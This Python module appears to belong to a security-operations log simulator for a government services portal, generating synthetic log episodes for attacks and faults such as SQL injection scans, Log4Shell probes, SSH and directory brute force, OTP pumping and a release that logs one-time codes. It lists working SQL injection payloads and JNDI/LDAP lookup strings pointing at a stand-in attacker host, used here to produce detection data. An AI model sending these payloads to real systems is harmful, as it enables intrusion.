"""Loud incidents that rules know: what goes wrong, or is done on purpose, within minutes."""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from urllib.parse import quote

from soc.simulator import lgsp, otp, portal, servers
from soc.simulator.episode import Effect, Episode, Scene, episode, times
from soc.simulator.faults import lose
from soc.simulator.line import Entry
from soc.simulator.people import CARRIERS, Citizen, attacker_address, citizen, identity, officers, phone

_SQL = (
    "1 AND {a}={a}",
    "1 AND {a}={b}",
    "1' AND '{a}'='{a}",
    "1) ORDER BY {n}-- -",
    "1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,user(),0x71)-- -",
    "1' AND (SELECT {a} FROM (SELECT(SLEEP(5)))x) AND '1'='1",
    "1;SELECT PG_SLEEP(5)--",
    "1' AND EXTRACTVALUE({a},CONCAT(0x5c,version()))-- -",
    "-{n} UNION ALL SELECT table_name,NULL FROM information_schema.tables-- -",
)


def sqli_scan(at: int, rng: Random, _scene: Scene) -> Episode:
    address, agent = attacker_address(rng), portal.attack_agent(rng)
    lines = []
    for i, when in enumerate(times(at, rng, 160, 350)):
        payload = rng.choice(_SQL).format(a=rng.randrange(1000, 9999), b=rng.randrange(1000, 9999), n=i % 12 + 1)
        status = 500 if rng.random() < 0.2 else 200
        lines.append(
            portal.request(
                when,
                address,
                agent,
                f"/thu-tuc/chi-tiet?id={quote(payload, safe='')}",
                status,
                rng.randrange(500, 20_000),
            )
        )
    return episode("sqli_scan", lines, source__ip=address)


def directory_brute_force(at: int, rng: Random, _scene: Scene) -> Episode:
    address = attacker_address(rng)
    words = "admin backup test old config api upload files data tmp private secret portal console manager db".split()
    lines = []
    for i, when in enumerate(times(at, rng, 500, 60)):
        target = f"/{rng.choice(words)}{i}{rng.choice(('', '/', '.php', '.zip', '.bak'))}"
        lines.append(
            portal.request(when, address, "Fuzz Faster U Fool v2.1.0-dev", target, 403 if i % 97 == 0 else 404, 548)
        )
    return episode("directory_brute_force", lines, source__ip=address)


def log4shell_probe(at: int, rng: Random, _scene: Scene) -> Episode:
    address, agent = attacker_address(rng), portal.attack_agent(rng)
    bait = f"${{jndi:ldap://{attacker_address(rng)}:1389/a}}"
    hidden = "${${lower:j}ndi:${lower:l}dap://x.example/a}"
    lines = []
    for i, when in enumerate(times(at, rng, 24, 1_500)):
        if i % 3 == 0:
            lines.append(portal.request(when, address, rng.choice((bait, hidden)), "/", 200, 5_120))
        else:
            lines.append(portal.request(when, address, agent, f"/tim-kiem?tu-khoa={quote(bait, safe='')}", 200, 9_000))
    return episode("log4shell_probe", lines, source__ip=address)


def ssh_brute_force(at: int, rng: Random, _scene: Scene) -> Episode:
    address, host = attacker_address(rng), rng.choice(servers.HOSTS)
    names = ("root", "admin", "oracle", "postgres", "test", "ubuntu", "git", "ftp", "backup", "user", "deploy")
    lines = []
    for when in times(at, rng, 90, 1_200):
        name, port = rng.choice(names), rng.randrange(30_000, 60_000)
        tag, unknown = f"sshd[{rng.randrange(1000, 60_000)}]", "" if name in ("root", "postgres") else "invalid user "
        if unknown:
            lines.append(servers.message(when, host, tag, f"Invalid user {name} from {address} port {port}"))
        lines.append(servers.login(when, host, tag, unknown + name, address, port))
    return episode("ssh_brute_force", lines, source__ip=address)


def otp_pumping(at: int, rng: Random, _scene: Scene) -> Episode:
    address, prefix = attacker_address(rng), phone(rng, "vietnamobile")[:6]
    lines: list[Entry] = []
    for i, when in enumerate(times(at, rng, 240, 700)):
        who = Citizen(f"{prefix}{i:04d}", "vietnamobile", identity(rng), address, "okhttp/4.12.0")
        lines += [entry for entry in otp.attempt(when, rng, who) if entry.fields["event"] != "verify"]
    return episode("otp_pumping", lines, source__ip=address)


def otp_carrier_outage(at: int, rng: Random, _scene: Scene) -> Episode:
    """Nothing arrives at one carrier: its citizens try again and again."""
    carrier = rng.choice([name for name, (share, _) in CARRIERS.items() if share > 0.1])
    end, lines = at + 300_000, []
    for when in times(at, rng, 110, 2_500):
        who = citizen(rng, carrier)
        for number in (1, 2):
            tried = otp.attempt(when + 45_000 * (number - 1), rng, who, number)
            lines += lose(tried, rng, carrier, at, end + 120_000)
    effect = Effect(at, end, frozenset({"otp.gateway"}), lambda entries: lose(entries, rng, carrier, at, end))
    return episode("otp_carrier_outage", lines, "otp.delivery_ratio", effect=effect, govsoc__otp__carrier=carrier)


def otp_code_leak(at: int, rng: Random, _scene: Scene) -> Episode:
    """A release logs the text of the messages."""
    lines = []
    for when in times(at, rng, 12, 4_000):
        who, code = citizen(rng), rng.randrange(10**6)
        text = f"Ma OTP cua ban la {code:06d}. Hieu luc 3 phut. Khong chia se ma nay cho bat ky ai."
        lines.append(
            otp.entry(
                when,
                "submit",
                who,
                f"{rng.getrandbits(64):016x}",
                "accepted",
                latency_ms=90,
                template=otp.TEMPLATE,
                message=text,
            )
        )
    return episode("otp_code_leak", lines)


def lgsp_provider_timeout(at: int, rng: Random, _scene: Scene) -> Episode:
    service = rng.choice([service for service in lgsp.SERVICES if service.about_citizen])
    lines = [lgsp.call(when, rng, service, "CU-DVC", 504, subject=identity(rng)) for when in times(at, rng, 70, 2_200)]
    return episode("lgsp_provider_timeout", lines, govsoc__lgsp__provider=service.provider)


def lgsp_token_misuse(at: int, rng: Random, _scene: Scene) -> Episode:
    address = f"10.33.{rng.randrange(104)}.{rng.randrange(100, 250)}"
    refused: dict[str, object] = {
        "fault_code": "900901",
        "fault_string": "Invalid credentials",
        "duration_ms": 4,
        "backend_ms": 0,
    }
    lines = []
    for when in times(at, rng, 60, 900):
        status, service = rng.choice(("invalid", "invalid", "missing")), rng.choice(lgsp.SERVICES)
        lines.append(lgsp.call(when, rng, service, "", 401, client_ip=address, token_status=status, **refused))
    return episode("lgsp_token_misuse", lines, source__ip=address)


def lgsp_mass_lookup(at: int, rng: Random, _scene: Scene) -> Episode:
    officer = officers(rng, 1)[0]
    lines = [
        lgsp.call(when, rng, lgsp.SERVICES[0], "CU-MOTCUA", subject=identity(rng), user=officer.name)
        for when in times(at, rng, 140, 1_600)
    ]
    return episode("lgsp_mass_lookup", lines, user__id=officer.name)


# Kind -> what makes it. The first ones are seen at once, so a demonstration begins with them.
INCIDENTS: dict[str, Callable[[int, Random, Scene], Episode]] = {
    make.__name__: make
    for make in (
        sqli_scan, otp_code_leak, ssh_brute_force, log4shell_probe, lgsp_token_misuse, otp_pumping, directory_brute_force,
        lgsp_provider_timeout, otp_carrier_outage, lgsp_mass_lookup,
    )
}  # fmt: skip
